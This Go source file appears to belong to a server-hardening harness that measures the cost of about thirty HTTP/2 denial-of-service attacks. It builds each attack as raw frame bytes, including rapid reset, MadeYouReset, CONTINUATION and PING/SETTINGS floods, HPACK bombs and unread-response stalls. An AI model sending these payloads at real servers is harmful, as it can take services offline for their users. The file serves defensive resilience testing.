//go:build linux

package main

// This file has what peers of HTTP/2 do to keep a server busy, by name, as the octets that they send:
// h2attacks.go measures what each costs the server.

import (
	"encoding/binary"
	"strings"

	"golang.org/x/net/http2"
)

// A h2attack sends the same again and again, as fast as it goes; when the server has ended the
// connection, on another one.
type h2attack struct {
	name  string
	with  []http2.Setting // behind the preface
	begin func(s *h2sender)
	each  func(s *h2sender) // what is sent again and again
	asks  int               // requests in each, which are answered: they are waited for; 0: nothing is
	ahead int               // but for so many, that the server has always something to do
	codes []http2.ErrCode   // that may end the connection
	stays bool              // or it goes on
	mute  bool              // what comes is not read
	held  int               // responses that wait on each connection
	deaf  bool              // what is sent does not end with GOAWAY
}

// A h2sender makes frames.
type h2sender struct {
	b    []byte
	next uint32 // stream
	n    int    // of each
}

func (s *h2sender) frame(kind http2.FrameType, flags http2.Flags, stream uint32, payload string) {
	n := len(payload)
	s.b = append(s.b, byte(n>>16), byte(n>>8), byte(n), byte(kind), byte(flags))
	s.b = binary.BigEndian.AppendUint32(s.b, stream)
	s.b = append(s.b, payload...)
}

// The fields of requests: no more than the static table, and a path (RFC 7541 §6).
const (
	h2getHead  = "\x82\x86\x01\x01h"
	h2postHead = "\x83\x86\x01\x01h"

	h2getGood  = h2getHead + "\x04\x0a/plaintext"
	h2getSlow  = h2getHead + "\x04\x0b/slow?ms=20"
	h2postWait = h2postHead + "\x04\x07/upload"
	h2getLarge = h2getHead + "\x04\x0f/bytes?n=100000"
)

const (
	h2end  = http2.FlagHeadersEndStream
	h2done = http2.FlagHeadersEndHeaders
)

// head begins a stream, whose number it returns.
func (s *h2sender) head(flags http2.Flags, block string) uint32 {
	stream := s.next
	s.next += 2
	s.frame(http2.FrameHeaders, flags, stream, block)
	return stream
}

func (s *h2sender) reset(stream uint32) {
	s.frame(http2.FrameRSTStream, 0, stream, "\x00\x00\x00\x08")
}

func (s *h2sender) grow(stream, by uint32) {
	s.frame(http2.FrameWindowUpdate, 0, stream, string(binary.BigEndian.AppendUint32(nil, by)))
}

// waiting opens n streams whose handlers wait for the body.
func waiting(n int) func(s *h2sender) {
	return func(s *h2sender) {
		for range n {
			s.head(h2done, h2postWait)
		}
	}
}

// h2bomb empties the table and has a large entry inserted, of which there are ten thousand more.
var h2bomb = "\x20\x3f\xe1\x1f" + h2getGood + "\x40\x04bomb\x7f\xbd\x1d" + strings.Repeat("x", 3900) + strings.Repeat("\xbe", 10_000)

// h2churn has the table emptied and filled.
var h2churn = func() string {
	b := "\x20\x3f\xe1\x1f" + h2getGood
	for i := range 8 {
		b += "\x40\x02x" + string(rune('a'+i)) + "\x64" + strings.Repeat("v", 100)
	}
	return b
}()

// h2changes are SETTINGS that move the windows of all streams, two thousand times.
var h2changes = func() string {
	var b []byte
	for i := range uint32(2000) {
		b = append(b, 0, byte(http2.SettingInitialWindowSize))
		b = binary.BigEndian.AppendUint32(b, i)
	}
	return string(b)
}()

var (
	h2calm   = []http2.ErrCode{http2.ErrCodeEnhanceYourCalm}
	h2closed = []http2.ErrCode{http2.ErrCodeEnhanceYourCalm, http2.ErrCodeStreamClosed, http2.ErrCodeProtocol}
	h2shut   = []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}
	h2wide   = []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 1<<31 - 1}}
)

const (
	h2goodAsks = 50
	h2openMost = 100 // streams that are kept open
)

// h2good is the load that the others are compared with.
var h2good = h2attack{name: "good requests", asks: h2goodAsks, ahead: h2goodAsks, stays: true, each: func(s *h2sender) {
	for range h2goodAsks {
		s.head(h2end|h2done, h2getGood)
	}
}}

// h2attacks have the names by which they are known.
var h2attacks = []h2attack{
	{name: "rapid reset (CVE-2023-44487)", codes: h2calm, each: func(s *h2sender) { s.reset(s.head(h2end|h2done, h2getSlow)) }},
	{name: "rapid reset of quick answers", codes: h2calm, each: func(s *h2sender) { s.reset(s.head(h2end|h2done, h2getGood)) }},
	{name: "MadeYouReset (CVE-2025-8671), increment 0", codes: h2calm, each: func(s *h2sender) { s.grow(s.head(h2done, h2postWait), 0) }},
	{name: "MadeYouReset, window over 2^31-1", codes: h2calm, each: func(s *h2sender) { s.grow(s.head(h2done, h2postWait), 1<<31-1) }},
	{name: "MadeYouReset, over Content-Length", codes: h2calm, each: func(s *h2sender) {
		s.frame(http2.FrameData, 0, s.head(h2done, h2postWait+"\x0f\x0d\x011"), "xy")
	}},
	{name: "requests that are malformed", codes: h2calm, each: func(s *h2sender) { s.head(h2end|h2done, "\x82") }},
	{name: "HEADERS of nothing (CVE-2019-9518)", codes: h2calm, each: func(s *h2sender) { s.head(h2done, "") }},
	{name: "more streams than are allowed", codes: h2calm, each: func(s *h2sender) { s.head(h2done, h2postWait) }},
	{name: "CONTINUATION flood (CVE-2024-27316)", codes: h2calm, begin: func(s *h2sender) { s.head(h2end, h2getGood) }, each: func(s *h2sender) {
		s.frame(http2.FrameContinuation, 0, 1, "\x00\x01x\x64"+strings.Repeat("a", 100))
	}},
	{name: "CONTINUATION of nothing", codes: h2calm, begin: func(s *h2sender) { s.head(h2end, h2getGood) }, each: func(s *h2sender) {
		s.frame(http2.FrameContinuation, 0, 1, "")
	}},
	{name: "HPACK bomb of references", asks: 1, stays: true, each: func(s *h2sender) { s.head(h2end|h2done, h2bomb) }},
	{name: "HPACK table churn", asks: 16, stays: true, each: func(s *h2sender) {
		for range 16 {
			s.head(h2end|h2done, h2churn)
		}
	}},
	{name: "PING flood (CVE-2019-9512)", codes: h2calm, each: func(s *h2sender) { s.frame(http2.FramePing, 0, 0, "01234567") }},
	{name: "PING flood, and on behind GOAWAY", codes: h2calm, deaf: true, each: func(s *h2sender) { s.frame(http2.FramePing, 0, 0, "01234567") }},
	{name: "PING flood, answers not read", codes: h2calm, mute: true, each: func(s *h2sender) { s.frame(http2.FramePing, 0, 0, "01234567") }},
	{name: "SETTINGS flood (CVE-2019-9515)", codes: h2calm, each: func(s *h2sender) { s.frame(http2.FrameSettings, 0, 0, "") }},
	{name: "SETTINGS full of changes, 100 streams", codes: h2calm, begin: waiting(h2openMost), each: func(s *h2sender) {
		s.frame(http2.FrameSettings, 0, 0, h2changes)
	}},
	{name: "DATA of nothing (CVE-2019-9518)", codes: h2calm, begin: waiting(1), each: func(s *h2sender) { s.frame(http2.FrameData, 0, 1, "") }},
	{name: "PRIORITY flood (CVE-2019-9513)", codes: h2calm, begin: waiting(1), each: func(s *h2sender) {
		s.frame(http2.FramePriority, 0, uint32(2*(s.n%1000)+1), "\x00\x00\x00\x00\x10")
	}},
	{name: "PRIORITY_UPDATE flood", codes: h2calm, begin: waiting(1), each: func(s *h2sender) {
		s.frame(http2.FramePriorityUpdate, 0, 0, "\x00\x00\x00\x01u=1")
	}},
	{name: "RST_STREAM flood", codes: h2closed, begin: waiting(1), each: func(s *h2sender) { s.reset(1) }},
	{name: "WINDOW_UPDATE flood (CVE-2019-9511)", codes: h2calm, begin: waiting(1), each: func(s *h2sender) { s.grow(0, 1) }},
	{name: "WINDOW_UPDATE flood of a stream", codes: h2calm, begin: waiting(1), each: func(s *h2sender) { s.grow(1, 1) }},
	{name: "windows opened by an octet (CVE-2019-9511)", codes: h2calm, stays: true, with: h2shut, begin: large(h2openMost), held: h2openMost, each: func(s *h2sender) {
		s.grow(uint32(2*(s.n%h2openMost)+1), 1)
	}},
	{name: "windows that stay shut", stays: true, with: h2shut, begin: large(h2openMost), held: h2openMost},
	{name: "answers that are not read (CVE-2019-9517)", stays: true, with: h2wide, begin: large(h2openMost), held: h2openMost, mute: true},
	{name: "bodies of an octet a frame", codes: append(h2calm, http2.ErrCodeFlowControl), stays: true, begin: waiting(1), each: func(s *h2sender) {
		s.frame(http2.FrameData, 0, 1, "x")
	}},
	{name: "unknown frames", codes: h2calm, each: func(s *h2sender) { s.frame(http2.FrameType(0x20+s.n%0x80), 0xff, 0, "x") }},
	{name: "DATA of a stream that was reset", codes: h2closed, begin: func(s *h2sender) { s.grow(s.head(h2done, h2postWait), 0) }, each: func(s *h2sender) {
		s.frame(http2.FrameData, 0, 1, "x")
	}},
}

// large asks n times for more than a window.
func large(n int) func(s *h2sender) {
	return func(s *h2sender) {
		for range n {
			s.head(h2end|h2done, h2getLarge)
		}
	}
}
